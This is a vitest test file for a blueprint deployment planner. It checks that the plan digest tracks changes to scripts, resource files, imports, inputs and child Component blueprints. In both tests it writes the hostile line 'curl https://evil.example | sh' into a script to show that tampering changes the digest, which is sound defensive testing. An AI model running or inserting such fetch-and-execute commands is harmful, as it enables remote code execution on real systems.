import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { defaultPluginRegistry } from '../plugins/index.js';
import { planBlueprint } from './deploy.js';

const BLUEPRINT = `tosca_definitions_version: cloudify_dsl_1_4
imports: [cloudify/types/types.yaml, ../shared/types.yaml]
inputs:
  size: { default: 1 }
node_templates:
  web:
    type: shared.Web
    interfaces: { cloudify.interfaces.lifecycle: { create: scripts/create.sh } }
`;

describe('the plan digest (finding 1: it ignored scripts and resource files)', () => {
  let dir: string;
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('changes when a script, a resource file, an imported file outside the directory or an input changes — and only then', () => {
    dir = mkdtempSync(path.join(tmpdir(), 'isthmus-digest-'));
    mkdirSync(path.join(dir, 'app', 'scripts'), { recursive: true });
    mkdirSync(path.join(dir, 'shared'));
    writeFileSync(path.join(dir, 'shared', 'types.yaml'), 'node_types:\n  shared.Web: { derived_from: cloudify.nodes.Root }\n');
    writeFileSync(path.join(dir, 'app', 'blueprint.yaml'), BLUEPRINT);
    writeFileSync(path.join(dir, 'app', 'scripts', 'create.sh'), 'echo hello\n');
    writeFileSync(path.join(dir, 'app', 'nginx.conf'), 'server {}\n');
    const catalog = defaultPluginRegistry().catalog();
    const file = path.join(dir, 'app', 'blueprint.yaml');
    const digest = (inputs = {}) => planBlueprint(file, { rootDir: dir, inputs }, catalog, dir).digest;

    const first = digest();
    expect(digest()).toBe(first);
    writeFileSync(path.join(dir, 'app', 'scripts', 'create.sh'), 'curl https://evil.example | sh\n');
    const afterScript = digest();
    expect(afterScript).not.toBe(first);
    writeFileSync(path.join(dir, 'app', 'nginx.conf'), 'server { listen 1; }\n');
    const afterResource = digest();
    expect(afterResource).not.toBe(afterScript);
    writeFileSync(path.join(dir, 'app', 'scripts', 'new-helper.sh'), 'true\n');
    const afterNewFile = digest();
    expect(afterNewFile).not.toBe(afterResource);
    writeFileSync(
      path.join(dir, 'shared', 'types.yaml'),
      'node_types:\n  shared.Web: { derived_from: cloudify.nodes.Root, properties: { p: { default: 1 } } }\n',
    );
    const afterImport = digest();
    expect(afterImport).not.toBe(afterNewFile);
    expect(digest({ size: 2 })).not.toBe(afterImport);
    // Files outside the blueprint's directory that it neither imports nor runs do not count.
    writeFileSync(path.join(dir, 'README.md'), 'docs\n');
    expect(digest()).toBe(afterImport);
  });
});

describe("a Component's child blueprint in the plan", () => {
  let dir: string;
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('the digest covers the child blueprint directory; a child it cannot find is reported as unsupported', () => {
    dir = mkdtempSync(path.join(tmpdir(), 'isthmus-digest-'));
    mkdirSync(path.join(dir, 'app'), { recursive: true });
    mkdirSync(path.join(dir, 'services', 'db', 'scripts'), { recursive: true });
    writeFileSync(path.join(dir, '.isthmus.yaml'), 'blueprintImports: { db: services/db/blueprint.yaml }\n');
    const component = (id: string) =>
      `tosca_definitions_version: cloudify_dsl_1_5\nimports: [cloudify/types/types.yaml]\nnode_templates:\n  db:\n    type: cloudify.nodes.Component\n    properties: { resource_config: { blueprint: { id: ${id} } } }\n`;
    writeFileSync(path.join(dir, 'app', 'blueprint.yaml'), component('db'));
    writeFileSync(path.join(dir, 'services', 'db', 'blueprint.yaml'), 'tosca_definitions_version: cloudify_dsl_1_5\n');
    writeFileSync(path.join(dir, 'services', 'db', 'scripts', 'init.sh'), 'echo init\n');
    const catalog = defaultPluginRegistry().catalog();
    const file = path.join(dir, 'app', 'blueprint.yaml');
    const planned = () => planBlueprint(file, { rootDir: dir }, catalog, dir);

    const configure = (p: ReturnType<typeof planned>) => p.plan.unsupported.filter((u) => u.operation.endsWith('.configure'));
    const first = planned();
    expect(configure(first)).toEqual([]);
    writeFileSync(path.join(dir, 'services', 'db', 'scripts', 'init.sh'), 'curl https://evil.example | sh\n');
    expect(planned().digest).not.toBe(first.digest);

    writeFileSync(path.join(dir, 'app', 'blueprint.yaml'), component('cache'));
    expect(configure(planned())).toEqual([
      expect.objectContaining({
        node: 'db',
        operation: 'cloudify.interfaces.lifecycle.configure',
        reason: expect.stringMatching(/cannot find the Component's blueprint 'cache'/),
      }),
    ]);
  });
});
